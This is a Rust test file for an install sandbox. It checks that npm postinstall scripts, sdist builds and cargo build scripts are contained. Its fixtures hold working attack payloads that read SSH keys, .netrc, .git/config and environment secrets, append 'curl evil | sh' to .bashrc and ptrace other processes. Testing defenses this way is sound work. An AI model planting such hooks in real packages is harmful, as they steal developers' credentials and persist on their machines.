//! Installs whose packages attack, through the links, with the real tools, registries on the loopback and the sandbox of
//! real runs: an npm lifecycle script, the build of an sdist and a build script of cargo each try six things, and an
//! install inside the install. Nothing of it works, and what is printed says so.

use std::net::UdpSocket;
use std::path::Path;
use std::process::{Child, Command};

use serde_json::json;
use tidewaiter::enforce::sandbox;

use crate::bypass::{Town, cargo_tools, npm_tools, python_tools};
use crate::cli::Ran;
use crate::shims::{program, real_python};
use crate::support::loopback::{Dist, Loopback};
use crate::support::rig::uv;

const OLD: &str = "2020-01-01T00:00:00Z";
const SIX: [&str; 6] = ["tcp", "udp", "key", "bashrc", "ptrace", "environment"];

/// What the attack tries; it fails, so that what it says is shown.
const ATTACK: &str = r#"
import ctypes, os, socket, sys

def attack(tcp, udp, pid):
    said = []
    def attempt(name, action):
        try:
            action()
            said.append(name + ': GOT IN')
        except BaseException:
            said.append(name + ': stopped')
    def ask_by_udp():
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'\x12\x34\x01\x00\x00\x01', ('127.0.0.1', udp))
    def read_key():
        assert 'PRIVATE' in open(os.environ['HOME'] + '/.ssh/id_ed25519').read()
    def write_bashrc():
        open(os.environ['HOME'] + '/.bashrc', 'a').write('curl evil | sh\n')
    def trace():
        library = ctypes.CDLL(None)
        assert library.ptrace(16, pid, 0, 0) == 0
        os.waitpid(pid, 0x40000000)
        library.ptrace(17, pid, 0, 0)
    def print_environment():
        assert any('PRIVATE' in value for value in os.environ.values())
    attempt('tcp', lambda: socket.create_connection(('127.0.0.1', tcp), 5))
    attempt('udp', ask_by_udp)
    attempt('key', read_key)
    attempt('bashrc', write_bashrc)
    attempt('ptrace', trace)
    attempt('environment', print_environment)
    sys.stderr.write('\n'.join(said) + '\n')
    sys.exit(9)
"#;

/// The same in a build script.
const BUILD_RS: &str = r#"
unsafe extern "C" { fn ptrace(request: i32, pid: i32, a: usize, b: usize) -> i64; }
fn main() {
    let home = std::env::var("HOME").unwrap();
    let timeout = std::time::Duration::from_secs(5);
    let mut failed = 0;
    let mut attempt = |name: &str, got: bool| {
        failed += 1;
        eprintln!("{name}: {}", if got { "GOT IN" } else { "stopped" });
    };
    let tcp = std::net::TcpStream::connect_timeout(&([127, 0, 0, 1], TCP).into(), timeout);
    attempt("tcp", tcp.is_ok());
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").and_then(|s| s.send_to(b"x", ("127.0.0.1", UDP)));
    attempt("udp", udp.is_ok());
    attempt("key", std::fs::read_to_string(format!("{home}/.ssh/id_ed25519")).is_ok_and(|t| t.contains("PRIVATE")));
    let bashrc = std::fs::OpenOptions::new().append(true).open(format!("{home}/.bashrc"));
    attempt("bashrc", bashrc.is_ok());
    attempt("ptrace", unsafe { ptrace(16, PID, 0, 0) } == 0);
    attempt("environment", std::env::vars().any(|(_, value)| value.contains("PRIVATE")));
    std::process::exit(failed);
}
"#;

/// A town with something to steal, and what listens for it.
struct Scene {
    town: Town,
    tcp: Loopback,
    udp: UdpSocket,
    sibling: Child,
}

impl Drop for Scene {
    fn drop(&mut self) {
        let _ = self.sibling.kill();
        let _ = self.sibling.wait();
    }
}

impl Scene {
    /// `None`, said, where nothing can be contained.
    fn new(tools: &[(&str, std::path::PathBuf)]) -> Option<Self> {
        let available = sandbox::availability_with(Path::new(env!("CARGO_BIN_EXE_tidewaiter")));
        if !available.works() || available.landlock_abi < 4 {
            eprintln!("skipped: {}", available.words().join("; "));
            return None;
        }
        let town = Town::new(tools);
        let home = |path: &str, text: &str| town.shimmed.sandbox.write(&format!("../home/{path}"), text);
        home(".ssh/id_ed25519", "PRIVATE");
        home(".bashrc", "# mine\n");
        // What is tried here is what happens to scripts that were cleared.
        let allow = "[[allow]]\npackage = \"pkg:npm/tw-*\"\nrule = \"install-script\"\nreason = \"a toy\"\n";
        home(".config/tidewaiter/policy.toml", &format!("version = 1\n{allow}expires = \"2099-01-01\"\n"));
        for name in ["cc", "ld", "as"] {
            let _ = std::os::unix::fs::symlink(format!("/usr/bin/{name}"), town.shimmed.at("system").join(name));
        }
        let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
        udp.set_nonblocking(true).unwrap();
        let sibling = Command::new("/bin/sleep").arg("600").spawn().unwrap();
        Some(Self { town, tcp: Loopback::start(), udp, sibling })
    }

    fn ports(&self) -> (u16, u16, u32) {
        let tcp = self.tcp.url.rsplit(':').next().unwrap().parse().unwrap();
        (tcp, self.udp.local_addr().unwrap().port(), self.sibling.id())
    }

    fn python(&self) -> String {
        let (tcp, udp, pid) = self.ports();
        format!("{ATTACK}\nattack({tcp}, {udp}, {pid})\n")
    }

    fn rust(&self) -> String {
        let (tcp, udp, pid) = self.ports();
        let constants = format!("const TCP: u16 = {tcp};\nconst UDP: u16 = {udp};\nconst PID: i32 = {pid};\n");
        constants + BUILD_RS
    }

    fn run(&self, tool: &str, arguments: &[&str]) -> Ran {
        let mut command = self.town.shimmed.command(tool, arguments);
        command.env("NPM_TOKEN", "PRIVATE").env("AWS_SECRET_ACCESS_KEY", "PRIVATE").env("PGPASSWORD", "PRIVATE");
        Ran::of(command.output().unwrap(), self.town.shimmed.sandbox.dir.path())
    }

    /// All six failed, and the output says so.
    fn held(&self, ran: &Ran) {
        assert_ne!(ran.status, 0, "{ran:?}");
        let said = format!("{}{}", ran.stdout, ran.stderr);
        for what in SIX {
            assert!(said.contains(&format!("{what}: stopped")), "{what}: {ran:#?}");
        }
        assert!(!said.contains("GOT IN"), "{ran:#?}");
        for words in ["tidewaiter: the sandbox allows writes only in", "[sandbox] write = "] {
            assert!(ran.stderr.contains(words), "{words}: {ran:#?}");
        }
        assert_eq!(self.tcp.paths(), [""; 0]);
        assert!(self.udp.recv(&mut [0; 8]).is_err());
        assert_eq!(std::fs::read_to_string(self.town.shimmed.at("home/.bashrc")).unwrap(), "# mine\n");
    }
}

/// An sdist that is built by code of its own.
fn sdist(name: &str, code: &str) -> Dist {
    let stem = format!("{}-1.0.0", name.replace('-', "_"));
    let system = "[build-system]\nrequires = []\nbuild-backend = \"setup\"\nbackend-path = [\".\"]\n";
    Dist::sdist(name, "1.0.0")
        .member(&format!("{stem}/pyproject.toml"), system.as_bytes())
        .member(&format!("{stem}/setup.py"), code.as_bytes())
}

#[test]
fn the_attack_is_one() {
    let Some(tools) = python_tools() else { return };
    let Some(scene) = Scene::new(&tools) else { return };
    scene.town.shimmed.sandbox.write("attack.py", scene.python());
    let ran = scene.run("python3", &["attack.py"]);
    for what in SIX.iter().filter(|w| **w != "ptrace") {
        assert!(ran.stderr.contains(&format!("{what}: GOT IN")), "{what}: {ran:#?}");
    }
}

#[test]
fn a_lifecycle_script_of_npm_reaches_nothing() {
    let (Some(mut tools), Some(npm)) = (python_tools(), npm_tools()) else { return };
    tools.extend(npm);
    let Some(scene) = Scene::new(&tools) else { return };
    let manifest = json!({"scripts": {"postinstall": "python3 attack.py"}});
    scene.town.server.npm_with("tw-attack", "1.0.0", OLD, manifest, &[("attack.py", &scene.python())]);
    scene.town.shimmed.sandbox.write("package.json", "{\"name\": \"app\", \"version\": \"1.0.0\"}");
    scene.held(&scene.run("npm", &["install", "tw-attack"]));
}

#[test]
fn the_build_of_an_sdist_reaches_nothing() {
    let Some(tools) = python_tools() else { return };
    let Some(scene) = Scene::new(&tools) else { return };
    scene.town.server.python(sdist("tw-attack", &scene.python()));
    scene.held(&scene.run("pip", &["install", "--target", "out", "tw-attack"]));
}

#[test]
fn the_build_of_an_sdist_by_uv_reaches_nothing() {
    let (Some(mut tools), Some(uv)) = (python_tools(), uv()) else { return };
    tools.push(("uv", uv));
    let Some(scene) = Scene::new(&tools) else { return };
    scene.town.server.python(sdist("tw-attack", &scene.python()));
    let python = real_python().unwrap();
    let words = ["pip", "install", "--python", python.to_str().unwrap(), "--target", "out", "tw-attack"];
    scene.held(&scene.run("uv", &words));
}

#[test]
fn the_build_of_a_local_project_reads_no_credentials() {
    const READS: &str = "
import os, sys
try:
    assert 'PRIVATE' in open(os.environ['HOME'] + '/.netrc').read()
    sys.stderr.write('netrc: GOT IN')
except (OSError, AssertionError):
    sys.stderr.write('netrc: stopped')
sys.exit(9)
";
    let Some(mut tools) = python_tools() else { return };
    let uv = uv().map(|uv| tools.push(("uv", uv)));
    let Some(scene) = Scene::new(&tools) else { return };
    let write = |path: &str, text: &str| scene.town.shimmed.sandbox.write(path, text);
    write("../home/.netrc", "machine h.example login u password PRIVATE\n");
    // It names no version, so that only building it tells: a person let it pass.
    let system = "[build-system]\nrequires = []\nbuild-backend = \"setup\"\nbackend-path = [\".\"]\n";
    write("local/pyproject.toml", system);
    write("local/setup.py", READS);
    let interpreter = real_python().unwrap().display().to_string();
    for tool in ["pip"].into_iter().chain(uv.map(|()| "uv")) {
        let words: &[&str] = match tool {
            "uv" => &["pip", "install", "--python", &interpreter, "--target", "out", "./local"],
            _ => &["install", "--target", "out", "./local"],
        };
        let Some(ran) = scene.town.shimmed.on_a_terminal(tool, words, "[y/N]", "y\n") else { return };
        assert!(ran.stdout.contains("netrc: stopped") && !ran.stdout.contains("GOT IN"), "{tool}: {ran:#?}");
    }
}

/// Whether this interpreter's pip installs for the user when it is told to. Says so where it does not.
fn installs_for_users(python: &Path) -> bool {
    const CODE: &str = "import os, sys, sysconfig
managed = os.path.exists(os.path.join(sysconfig.get_path('stdlib'), 'EXTERNALLY-MANAGED'))
sys.exit(managed or sys.prefix != sys.base_prefix)";
    let does = Command::new(python).args(["-c", CODE]).status().is_ok_and(|status| status.success());
    if !does {
        eprintln!("skipped: the pip of {} installs nothing for the user alone", python.display());
    }
    does
}

#[test]
fn what_is_installed_for_the_user_is_there_with_its_programs() {
    const BUILDS: &str = "
import os, zipfile
def build_wheel(directory, config_settings=None, metadata_directory=None):
    name, info = 'tw_own-1.0.0-py3-none-any.whl', 'tw_own-1.0.0.dist-info/'
    with zipfile.ZipFile(os.path.join(directory, name), 'w') as wheel:
        wheel.writestr('tw_own.py', 'def main(): print(1)')
        wheel.writestr(info + 'METADATA', 'Metadata-Version: 2.1\\nName: tw-own\\nVersion: 1.0.0\\n')
        wheel.writestr(info + 'WHEEL', 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')
        wheel.writestr(info + 'entry_points.txt', '[console_scripts]\\ntw-own = tw_own:main\\n')
        wheel.writestr(info + 'RECORD', '')
    return name
";
    let Some(tools) = python_tools() else { return };
    if !installs_for_users(&tools[0].1) {
        return;
    }
    let Some(scene) = Scene::new(&tools) else { return };
    scene.town.server.python(sdist("tw-own", BUILDS));
    let home = |path: &str| scene.town.shimmed.at("home").join(path);
    scene.town.shimmed.sandbox.write("../home/.local/bin/other", "");
    for (words, base, says) in [
        (["install", "--user", "tw-tool"], ".local", false),
        (["install", "--user", "tw-own"], ".local", true),
        (["install", "--user", "tw-own"], "elsewhere", true),
    ] {
        let mut command = scene.town.shimmed.command("pip", &words);
        if base != ".local" {
            command.env("PYTHONUSERBASE", home(base));
        }
        let ran = Ran::of(command.output().unwrap(), scene.town.shimmed.sandbox.dir.path());
        assert_eq!(ran.status, 0, "{ran:#?}");
        assert!(home(base).join("bin").join(words[2]).is_file(), "{words:?}");
        assert_eq!(ran.stderr.contains("what is built from source can write"), says, "{ran:#?}");
    }
    assert!(home(".local/bin/other").is_file());
}

#[test]
fn a_build_script_of_cargo_reaches_nothing() {
    let Some(tools) = cargo_tools() else { return };
    let Some(scene) = Scene::new(&tools) else { return };
    let manifest = "[package]\nname = \"tw-attack\"\nversion = \"1.0.0\"\nedition = \"2024\"\nbuild = \"build.rs\"\n";
    let members = [("Cargo.toml", manifest), ("build.rs", &scene.rust()), ("src/lib.rs", "")];
    scene.town.server.krate("tw-attack", "1.0.0", json!({"pubtime": OLD}), &members);
    scene.town.shimmed.sandbox.write(
        "Cargo.toml",
        "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[dependencies]\ntw-attack = \"1\"\n",
    );
    scene.town.shimmed.sandbox.write("src/lib.rs", "");
    scene.held(&scene.run("cargo", &["build"]));
}

#[test]
fn of_what_does_not_compile_nothing_is_said_of_the_sandbox() {
    let Some(tools) = cargo_tools() else { return };
    let Some(scene) = Scene::new(&tools) else { return };
    let write = |path: &str, text: &str| _ = scene.town.shimmed.sandbox.write(path, text);
    write("Cargo.toml", "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n");
    write("src/lib.rs", "pub const X: i32 = \"x\";\n");
    let ran = scene.run("cargo", &["build"]);
    assert!(ran.status == 101 && ran.stderr.contains("could not compile"), "{ran:#?}");
    assert!(!ran.stderr.contains("sandbox"), "{ran:#?}");
}

#[test]
fn a_project_that_names_where_builds_write_opens_neither_credentials_nor_the_gate() {
    let Some(tools) = cargo_tools() else { return };
    let Some(scene) = Scene::new(&tools) else { return };
    let home = scene.town.shimmed.at("home");
    let policy = scene.town.shimmed.at("home/.config/tidewaiter/policy.toml");
    let own = std::fs::read_to_string(&policy).unwrap();
    std::fs::write(&policy, format!("{own}[rules]\nconfig-override = \"off\"\n")).unwrap();
    let write = |path: &str, text: &str| _ = scene.town.shimmed.sandbox.write(path, text);
    write("Cargo.toml", "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n");
    write("src/lib.rs", "");
    write(
        "build.rs",
        "fn main() {
            let home = std::env::var(\"HOME\").unwrap();
            let ran = std::fs::read_to_string(format!(\"{home}/.ssh/id_ed25519\"));
            let wrote = std::fs::write(format!(\"{home}/.config/tidewaiter/x\"), \"x\");
            panic!(\"read: {} wrote: {}\", ran.is_ok(), wrote.is_ok());
        }",
    );
    for (place, builds) in [(".ssh", false), (".ssh/deep", false), (".config/tidewaiter", false), ("elsewhere", true)] {
        write(".cargo/config.toml", &format!("[build]\ntarget-dir = {:?}\n", home.join(place)));
        let ran = scene.run("cargo", &["build"]);
        assert_ne!(ran.status, 0, "{place}: {ran:#?}");
        assert_eq!(ran.stderr.contains("read: false wrote: false"), builds, "{place}: {ran:#?}");
        assert!(!ran.stderr.contains("true"), "{place}: {ran:#?}");
    }
}

/// What a nested install is answered with.
const STOPPED: &str = "inside the sandbox of this install, where nothing else can be judged or brought in";

#[test]
fn an_install_by_a_script_is_stopped_and_named() {
    let (Some(mut tools), Some(npm)) = (python_tools(), npm_tools()) else { return };
    tools.extend(npm);
    let Some(scene) = Scene::new(&tools) else { return };
    let install = |script: &str| json!({"scripts": {"postinstall": script}});
    let server = &scene.town.server;
    server.npm("tw-needs", "1.0.0", OLD, install("pip install --target ../../out tw-good"));
    // What does not look at how it ended is told all the same, by the gate itself.
    server.npm("tw-quiet", "2.0.0", OLD, install("npm install tw-good >/dev/null 2>&1 || true"));
    scene.town.shimmed.sandbox.write("package.json", "{\"name\": \"app\", \"version\": \"1.0.0\"}");
    let ran = scene.run("npm", &["install", "tw-needs"]);
    assert_ne!(ran.status, 0, "{ran:#?}");
    let who = "`pip install --target ../../out tw-good` was started by `postinstall` of tw-needs 1.0.0, ";
    assert!(ran.stderr.contains(&format!("tidewaiter: {who}{STOPPED}")), "{ran:#?}");
    assert!(!ran.stderr.contains("record"), "{ran:#?}");
    let ran = scene.run("npm", &["install", "tw-quiet"]);
    assert_eq!(ran.status, 0, "{ran:#?}");
    let who = "tidewaiter: `npm install tw-good` was started by `postinstall` of tw-quiet 2.0.0, ";
    assert!(ran.stderr.contains(&format!("{who}{STOPPED}")), "{ran:#?}");
    let events = scene.town.events();
    assert!(events.last().unwrap()["refused"][0].as_str().unwrap().contains("tw-quiet 2.0.0"), "{events:#?}");
    assert!(!scene.town.shimmed.sandbox.work().join("out").exists());
}

#[test]
fn a_script_reads_neither_the_record_nor_secrets_of_the_repository() {
    let Some(npm) = npm_tools() else { return };
    let Some(scene) = Scene::new(&npm) else { return };
    let sandbox = &scene.town.shimmed.sandbox;
    let remote = |url: &str| format!("[remote \"origin\"]\n\turl = {url}\n");
    for (name, url, places) in
        [("tw-reads", "https://token@example.org/a", ""), ("tw-asks", "https://example.org/a", "../../.git/config ")]
    {
        sandbox.write(".git/config", remote(url));
        sandbox.write("dist/.env", "A=1");
        sandbox.write("package.json", "{\"name\": \"app\", \"version\": \"1.0.0\"}");
        let script = "for f in $HOME/.local/share/tidewaiter/log/000001.jsonl \
                      ../../.git/config ../../dist/.env; do test -n \"$(cat $f 2> /dev/null)\" && printf '%s ' $f; done > seen";
        scene.town.server.npm(name, "1.0.0", OLD, json!({"scripts": {"postinstall": format!("{script}; exit 0")}}));
        let ran = scene.run("npm", &["install", name]);
        assert_eq!(ran.status, 0, "{ran:#?}");
        let seen = std::fs::read_to_string(sandbox.work().join("node_modules").join(name).join("seen")).unwrap();
        assert_eq!(seen, places, "{ran:#?}");
    }
}

#[test]
fn an_install_by_a_build_is_stopped_and_named() {
    let Some(tools) = python_tools() else { return };
    let Some(scene) = Scene::new(&tools) else { return };
    let code = "import subprocess, sys\nsys.exit(subprocess.run(['pip', 'install', 'tw-good']).returncode)\n";
    scene.town.server.python(sdist("tw-needs", code));
    let ran = scene.run("pip", &["install", "--target", "out", "tw-needs"]);
    assert_ne!(ran.status, 0, "{ran:#?}");
    let line = format!("tidewaiter: `pip install tw-good` was started by a build or a script, {STOPPED}");
    assert!(ran.stderr.contains(&line), "{ran:#?}");
}

#[test]
fn a_program_that_is_installed_runs_in_a_script_of_the_project() {
    let (Some(mut tools), Some(npm)) = (python_tools(), npm_tools()) else { return };
    tools.extend(npm);
    let Some(scene) = Scene::new(&tools) else { return };
    let code = "#!/usr/bin/env node\nrequire('fs').writeFileSync('said', 'ran')\n";
    scene.town.server.npm_with("tw-tool", "1.0.0", OLD, json!({"bin": "cli.js"}), &[("cli.js", code)]);
    let manifest = "{\"name\": \"app\", \"version\": \"1.0.0\", \"scripts\": {\"prepare\": \"npx tw-tool\"}, \
                    \"dependencies\": {\"tw-tool\": \"1.0.0\"}}";
    scene.town.shimmed.sandbox.write("package.json", manifest);
    let ran = scene.run("npm", &["install"]);
    assert_eq!(ran.status, 0, "{ran:#?}");
    assert_eq!(std::fs::read_to_string(scene.town.shimmed.sandbox.work().join("said")).unwrap(), "ran");
    // And what is not installed is no more fetched by it than by a package's script.
    scene.town.shimmed.sandbox.write("package.json", manifest.replace("npx tw-tool", "npx tw-good"));
    let ran = scene.run("npm", &["install"]);
    assert!(ran.status != 0 && ran.stderr.contains("`npx tw-good` was started by `prepare` of app 1.0.0"), "{ran:#?}");
}

#[test]
fn a_tool_that_looks_for_its_interpreter_on_path_works_inside() {
    let Some(mut tools) = python_tools() else { return };
    let directory = tempfile::tempdir().unwrap();
    let pip = directory.path().join("pip");
    program(&pip, "#!/usr/bin/env python3\nimport sys\nfrom pip._internal.cli.main import main\nsys.exit(main())\n");
    tools.retain(|(name, _)| *name != "pip");
    tools.push(("pip", pip));
    let Some(scene) = Scene::new(&tools) else { return };
    let ran = scene.run("pip", &["install", "--target", "out", "tw-good"]);
    assert_eq!(ran.status, 0, "{ran:#?}");
    assert!(scene.town.shimmed.sandbox.work().join("out/tw_good.py").exists());
}

/// What an option has written is a file, wherever it is, and what is printed of it names no gateway.
#[test]
fn what_options_have_written_are_files() {
    let Some(mut tools) = python_tools() else { return };
    let uv = uv().map(|uv| tools.push(("uv", uv)));
    let Some(scene) = Scene::new(&tools) else { return };
    let at = |path: &str| scene.town.shimmed.at(path);
    scene.town.shimmed.sandbox.write("in.txt", "tw-good\n");
    std::fs::create_dir_all(at("beside")).unwrap();
    let (beside, shown) = (at("beside/report.json"), at("beside/log"));
    let [beside, log] = [&beside, &shown].map(|p| p.to_str().unwrap());
    let dry = ["install", "--quiet", "--dry-run", "--target", "out", "tw-good", "--report"];
    let mut cases: Vec<(&str, Vec<&str>, &str)> = vec![
        ("pip", [&dry[..], &["report.json"]].concat(), "work/report.json"),
        ("pip", [&dry[..], &[beside, "--log", log]].concat(), "beside/report.json"),
    ];
    if uv.is_some() {
        cases.push(("uv", vec!["pip", "compile", "-q", "in.txt", "-o", "out.txt"], "work/out.txt"));
    }
    for (tool, words, file) in cases {
        let ran = scene.run(tool, &words);
        assert_eq!(ran.status, 0, "{words:?}: {ran:#?}");
        let text = std::fs::read_to_string(at(file)).unwrap_or_else(|e| panic!("{words:?}: {e}"));
        assert!(text.contains("tw-good") || text.contains("tw_good"), "{words:?}: {text}");
    }
    let ran = scene.run("pip", &[&dry[..], &["-"]].concat());
    let report: serde_json::Value = serde_json::from_str(&ran.stdout).unwrap_or_else(|e| panic!("{e}: {ran:#?}"));
    let url = report["install"][0]["download_info"]["url"].as_str().unwrap();
    assert!(url.starts_with(&format!("{}/", scene.town.server.url)), "{url}");
    assert!(!at("work/-").exists());
}
